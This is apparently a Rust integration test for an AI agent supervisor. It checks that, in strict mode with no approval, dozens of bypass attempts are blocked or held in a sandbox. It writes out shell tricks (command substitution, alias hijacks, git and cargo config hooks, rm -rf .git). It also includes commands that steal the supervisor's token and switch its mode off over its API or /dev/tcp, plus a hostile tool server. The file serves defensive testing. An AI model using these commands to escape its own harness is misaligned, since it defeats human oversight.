//! Everything an agent can try in strict mode with no approval. Each attack is blocked by the
//! gate, with a code and a reason; or it was taken for looking, and then the sandbox holds it.

use crate::tree::{Tree, tree};
use crate::{Scene, code, outcome};
use flow::Mark;
use futures::future::LocalBoxFuture;
use serde_json::{Value, json};
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::Path;
use std::process::Command;
use support::{Recorded, Reply, Script, TempWorkspace, program, sidekick_complete};

/// From where an attack is tried: a way leads from one scene to the next.
type Way = (&'static str, fn(Scene) -> LocalBoxFuture<'static, Scene>);

const WAYS: &[Way] = &[
    ("in the room", |scene| Box::pin(async { scene })),
    ("after a restart", |scene| Box::pin(restarted(scene))),
    ("after a kill", |scene| Box::pin(killed(scene))),
    ("from a sidekick", |scene| Box::pin(sidekick(scene))),
    ("from a sidekick after a restart", |scene| Box::pin(restarted(scene))),
];

async fn restarted(mut scene: Scene) -> Scene {
    scene.restart().await;
    scene
}

/// The room of a sidekick that a person sent off, and that has nothing to do.
async fn sidekick(mut scene: Scene) -> Scene {
    let task = json!({ "task": "wait until you are told what to do" });
    let sidekick = scene.client().post(&scene.at("/sidekicks"), task).await.ok();
    scene.room = sidekick["id"].as_str().unwrap().to_owned();
    scene.wait_idle().await;
    scene
}

async fn killed(mut scene: Scene) -> Scene {
    scene.kill().await;
    scene
}

/// What becomes of an attack.
#[derive(Clone, Copy, Debug, PartialEq)]
enum End {
    /// The gate blocks it with this code, and it never begins.
    Blocked(&'static str),
    /// It can't even be judged: it fails with this code, and never begins.
    Refused(&'static str),
    /// It counts as looking, and the sandbox lets it do no more than that: it fails
    /// with these words.
    Held(&'static str),
    /// It counts as looking, and runs nothing that says this.
    Harmless(&'static str),
}

use End::{Blocked, Harmless, Held, Refused};

const NO: End = Blocked("NOT_APPROVED");

struct Attack {
    tool: &'static str,
    args: Value,
    end: End,
}

fn attack(tool: &'static str, args: Value, end: End) -> Attack {
    Attack { tool, args, end }
}

fn shell(command: impl Into<String>, end: End) -> Attack {
    attack("shell", json!({ "command": command.into() }), end)
}

/// Files of ours, by our own tools.
fn by_file_tools() -> Vec<Attack> {
    vec![
        attack("write_file", json!({ "path": "made.txt", "content": "x" }), NO),
        attack("write_file", json!({ "path": "note.txt", "content": "x" }), NO),
        attack("write_file", json!({ "path": "sub/../note.txt", "content": "x" }), NO),
        attack("edit_file", json!({ "path": "note.txt", "old": "hello", "new": "gone" }), NO),
        attack("create_directory", json!({ "path": "made/deep" }), NO),
        attack("move_file", json!({ "from": "note.txt", "to": "moved.txt" }), NO),
        attack("delete_file", json!({ "path": "note.txt" }), NO),
        attack("delete_file", json!({ "path": "sub" }), NO),
        attack("write_file", json!({ "path": "/etc/plancard-was-here", "content": "x" }), NO),
        attack(
            "write_file",
            json!({ "path": ".git/hooks/pre-commit", "content": "x" }),
            Refused("PROTECTED"),
        ),
        attack("fetch", json!({ "url": "https://example.com/?stolen" }), NO),
        attack("spawn_sidekick", json!({ "task": "write it for me" }), NO),
    ]
}

/// Files of ours, by commands.
fn by_shell() -> Vec<Attack> {
    let mut attacks: Vec<Attack> = [
        "echo x > made.txt",
        "ls > made.txt",
        ": > note.txt",
        "echo x >> note.txt",
        "ls >| note.txt",
        "ls &> made.txt",
        "echo x | tee made.txt",
        "sed -i s/hello/gone/ note.txt",
        "sed -n 'w made.txt' note.txt",
        "python3 -c \"open('made.txt', 'w').write('x')\"",
        "perl -e 'open(F, q(>made.txt))'",
        "awk 'BEGIN { print > \"made.txt\" }'",
        "git commit --allow-empty -m x",
        "git add note.txt",
        "git checkout -b other",
        "git config core.pager ./script.sh",
        "git -c alias.log='!touch made.txt' log",
        "git -c core.fsmonitor=./script.sh status",
        "git branch other",
        "npm i",
        "npm i left-pad",
        "echo note.txt | xargs rm",
        "ls | xargs -I{} touch {}.made",
        "cat > made.txt <<END\nx\nEND",
        "bash <<END\ntouch made.txt\nEND",
        "bash -c 'touch made.txt'",
        "sh -c 'echo x > made.txt'",
        "./script.sh",
        "sh script.sh",
        ". ./script.sh",
        "source script.sh",
        "alias ls='touch made.txt'\nls",
        "shopt -s expand_aliases\nalias ls='touch made.txt'\nls",
        "ls() { touch made.txt; }; ls",
        "./ls made.txt",
        "sub/cat made.txt",
        "PATH=.:$PATH ls made.txt",
        "ls $(touch made.txt)",
        "ls `touch made.txt`",
        "cat <(touch made.txt)",
        "test -v 'a[$(touch made.txt)]'",
        "trap 'touch made.txt' EXIT; ls",
        "ls; touch made.txt",
        "ls && rm note.txt",
        "ls\nrm note.txt",
        "(ls; rm note.txt)",
        "find . -name note.txt -delete",
        "find . -name note.txt -exec rm {} ;",
        "find . -fprint made.txt",
        "sort -o made.txt note.txt",
        "uniq note.txt made.txt",
        "rg --pre ./script.sh hello",
        "git log --output=made.txt",
        "env touch made.txt",
        "command touch made.txt",
        "timeout 5 touch made.txt",
        "nohup touch made.txt &",
        "eval 'touch made.txt'",
        "exec touch made.txt",
        "dd if=/dev/null of=note.txt",
        "truncate -s 0 note.txt",
        "cp note.txt made.txt",
        "mv note.txt moved.txt",
        "ln -s note.txt made.txt",
        "ln -sf /usr/bin/touch ls",
        "mkdir made",
        "rm -rf .git",
        "chmod 777 note.txt",
        "cargo build",
        "cargo metadata --config build.rustc='\"./script.sh\"'",
        "make",
    ]
    .into_iter()
    .map(|command| shell(command, NO))
    .collect();
    let also = |more: Value| {
        let mut args = json!({ "command": "touch made.txt" });
        args.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
        attack("shell", args, NO)
    };
    attacks.push(also(json!({ "background": true })));
    attacks.push(also(json!({ "folder": "sub" })));
    attacks.push(also(json!({ "network": ["example.com"] })));
    // Neither the compiler nor the toolchain that the project names is run for a look.
    for command in ["cargo metadata --offline --format-version 1", "cargo tree --offline"] {
        let args = json!({ "command": command, "folder": "trap" });
        attacks.push(attack("shell", args, Harmless("evil ran")));
    }
    attacks
}

/// Tools of a server that nobody trusts: one says nothing of itself, others lie.
fn by_servers() -> Vec<Attack> {
    vec![
        attack("hostile__write", json!({ "path": "made.txt", "text": "x" }), NO),
        attack("hostile__lie", json!({}), NO),
        attack("hostile__plant", json!({}), NO),
        // It is called like a tool of ours and says that it only reads.
        attack("hostile__read_file", json!({}), NO),
        attack("hostile__plan", json!({}), NO),
        attack("hostile__no_such_tool", json!({}), Blocked("UNKNOWN_TOOL")),
    ]
}

/// The supervisor: the program, its API, its token, its configuration.
fn at_the_supervisor(scene: &Scene) -> Vec<Attack> {
    let (app, config) = (program("plancard"), scene.place.config());
    let (app, config) = (app.display(), config.display());
    let (data, token) = (scene.place.data(), scene.place.data().join("token"));
    let (data, token) = (data.display(), token.display());
    let api = format!("http://{}{}", scene.client().address, scene.at("/plan-mode"));
    let port = scene.client().address.port();
    let in_python = format!(
        "python3 -c \"import urllib.request as u; u.urlopen(u.Request('{api}', method='PUT', \
         data=b'{{\\\"mode\\\":\\\"off\\\"}}', headers={{'Authorization': 'Bearer ' + \
         open('{token}').read().strip()}}))\""
    );
    let unseen = Held("No such file");
    let path = |path: String, end| attack("read_file", json!({ "path": path }), end);
    let write = |path: String| attack("write_file", json!({ "path": path, "content": "x" }), NO);
    let edit = |path: String| {
        attack("edit_file", json!({ "path": path, "old": "scripted", "new": "other" }), NO)
    };
    vec![
        shell(format!("{app} serve"), NO),
        shell("plancard --version", NO),
        shell(format!("PLANCARD_DATA={data} {app} serve --listen 127.0.0.1:0"), NO),
        shell(
            format!(
                "curl -sS -X PUT -H \"authorization: Bearer $(cat {token})\" -H 'content-type: \
                 application/json' -d '{{\"mode\":\"off\"}}' {api}"
            ),
            NO,
        ),
        shell(in_python, NO),
        shell(format!("exec 3<>/dev/tcp/127.0.0.1/{port}; cat {token} >&3"), NO),
        shell(
            format!(
                "curl -sS --unix-socket {data}/plancard.sock -X PUT -d '{{\"mode\":\"off\"}}' {api}"
            ),
            NO,
        ),
        shell(format!("PLANCARD_DATA={data} {app} doctor"), NO),
        attack("shell", json!({ "command": format!("curl {api}"), "network": ["127.0.0.1"] }), NO),
        attack("fetch", json!({ "url": api }), NO),
        shell(format!("echo 'agents: {{}}' >> {config}"), NO),
        shell(format!("sed -i s/strict/off/ {config}"), NO),
        shell(format!("cp note.txt {config}"), NO),
        shell("echo x >> way/plancard.yaml", NO),
        shell(format!("rm -rf {data}"), NO),
        write(config.to_string()),
        write("way/plancard.yaml".to_owned()),
        write("way/settings.yaml".to_owned()),
        write(format!("{data}/token")),
        edit(config.to_string()),
        edit("way/plancard.yaml".to_owned()),
        attack("delete_file", json!({ "path": config.to_string() }), NO),
        attack("move_file", json!({ "from": "note.txt", "to": "way/settings.yaml" }), NO),
        // Looking is free, but there is nothing to see.
        shell(format!("cat {token}"), unseen),
        shell(format!("cat {config}"), unseen),
        shell(format!("ls {data}"), unseen),
        shell(format!("ls -l {data}/plancard.sock"), unseen),
        shell("cat way/plancard.yaml", unseen),
        path(config.to_string(), Blocked("OUTSIDE")),
        path(token.to_string(), Blocked("OUTSIDE")),
        path("way/plancard.yaml".to_owned(), Blocked("OUTSIDE")),
    ]
}

/// A folder with a repository, and with everything that the attacks lean on.
fn workspace() -> TempWorkspace {
    let workspace = TempWorkspace::new(&[
        ("note.txt", "hello\n"),
        ("sub/inner.txt", "inner\n"),
        ("script.sh", "#!/bin/sh\ntouch made.txt\n"),
        ("package.json", r#"{ "name": "small", "version": "0.1.0" }"#),
        ("Makefile", "all:\n\ttouch made.txt\n"),
        (
            "trap/Cargo.toml",
            "[package]\nname = \"trap\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
        ),
        ("trap/src/lib.rs", ""),
        ("trap/.cargo/config.toml", "[build]\nrustc = \"./evil.sh\"\n"),
        ("trap/evil.sh", "#!/bin/sh\ntouch ../made.txt\necho evil ran >&2\nexit 7\n"),
        ("trap/rust-toolchain.toml", "[toolchain]\npath = \"/nowhere/evil\"\n"),
        (
            "trap/Cargo.lock",
            "# This file is automatically @generated by Cargo.\n# It is not intended for manual \
             editing.\nversion = 4\n\n[[package]]\nname = \"trap\"\nversion = \"0.1.0\"\n",
        ),
    ]);
    let at = |name: &str| workspace.path().join(name);
    for script in ["script.sh", "trap/evil.sh"] {
        std::fs::set_permissions(at(script), PermissionsExt::from_mode(0o755)).unwrap();
    }
    for link in ["ls", "sub/cat"] {
        symlink("/usr/bin/touch", at(link)).unwrap();
    }
    let git = |args: &[&str]| {
        let who = ["-c", "user.name=A", "-c", "user.email=a@example.com"];
        let done = Command::new("git").arg("-C").arg(at("")).args(who).args(args).output().unwrap();
        assert!(done.status.success(), "{done:?}");
    };
    git(&["init", "-q"]);
    git(&["add", "note.txt"]);
    git(&["commit", "-qm", "first"]);
    workspace
}

/// The call that the last message asks for, then a word. A sidekick that is asked for nothing is
/// done.
fn obedient() -> Script {
    Script::from_fn(|request: &Recorded| {
        let messages = request.messages();
        let last = messages.iter().rposition(|message| message["role"] == "user").unwrap();
        if messages[last..].iter().any(|message| message["role"] == "tool") {
            return Reply::text("I see.");
        }
        match serde_json::from_str::<Value>(&request.texts("user").pop().unwrap()) {
            Ok(wish) => Reply::call(wish["tool"].as_str().unwrap(), wish["args"].clone()),
            Err(_) => sidekick_complete("ready"),
        }
    })
}

async fn scene() -> Scene {
    let mark = Mark::fresh();
    let server = Path::new(env!("CARGO_MANIFEST_DIR")).join("../support/mcp/hostile.py");
    let server = server.canonicalize().unwrap();
    let servers = format!(
        "mcp_servers:\n  hostile: {{ command: python3, args: [\"{0}\", \"{1}\"], read: [\"{0}\"] }}\n",
        server.display(),
        mark.0
    );
    let scene = Scene::configured("strict", obedient(), workspace(), &servers).await;
    // A way out of the folder that somebody made before.
    let config = scene.place.config();
    symlink(config.parent().unwrap(), scene.workspace.path().join("way")).unwrap();
    scene
}

/// Everything that must stay as it is: the folder, and the app's own files but the log.
fn world(scene: &Scene) -> (Tree, Tree) {
    let home = scene.place.data().parent().unwrap().to_owned();
    (tree(&scene.workspace.path(), &[]), tree(&home, &["data"]))
}

/// Tries one attack; what is wrong with how it ended.
async fn fend_off(scene: &Scene, attack: &Attack) -> Result<(), String> {
    let before = world(scene);
    let wish = json!({ "tool": attack.tool, "args": attack.args });
    let said = scene.say(&wish.to_string()).await;
    let heard = scene.until(said, "call_ended").await;
    scene.wait_idle().await;
    let began = heard.iter().any(|heard| heard.name == "call_began");
    let asked = heard.iter().any(|heard| heard.name == "ask_raised");
    let (how, said) = outcome(heard.last().unwrap());
    let told = format!("{wish} ended as {how}, began: {began}, with {said}");
    let reason: Value = serde_json::from_str(&said).unwrap_or_default();
    let has_reason = reason["message"].as_str().is_some_and(|words| words.len() > 20);
    let fits = match attack.end {
        Blocked(with) => how == "blocked" && code(&said) == with && has_reason && !began,
        Refused(with) => how == "failed" && code(&said) == with && has_reason && !began,
        Held(with) => how == "failed" && said.contains(with) && began,
        Harmless(without) => how == "ok" && !said.contains(without) && began,
    };
    if world(scene) != before {
        return Err(format!("it changed something: {told}"));
    }
    if !fits || asked {
        return Err(format!("not {:?}: {told}", attack.end));
    }
    Ok(())
}

#[tokio::test]
async fn nothing_goes_round_strict_mode() {
    let mut scene = scene().await;
    let mut wrong = Vec::new();
    for (from, way) in WAYS {
        scene = way(scene).await;
        let supervisor = at_the_supervisor(&scene);
        let all = [by_file_tools(), by_shell(), by_servers(), supervisor];
        for attack in all.iter().flatten() {
            if let Err(how) = fend_off(&scene, attack).await {
                wrong.push(format!("{from}: {how}"));
            }
        }
        let view = scene.view().await;
        assert_eq!((&view["plan_mode"], &view["plan"]), (&json!("strict"), &Value::Null));
        assert_eq!(scene.asks().await, Vec::<Value>::new());
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
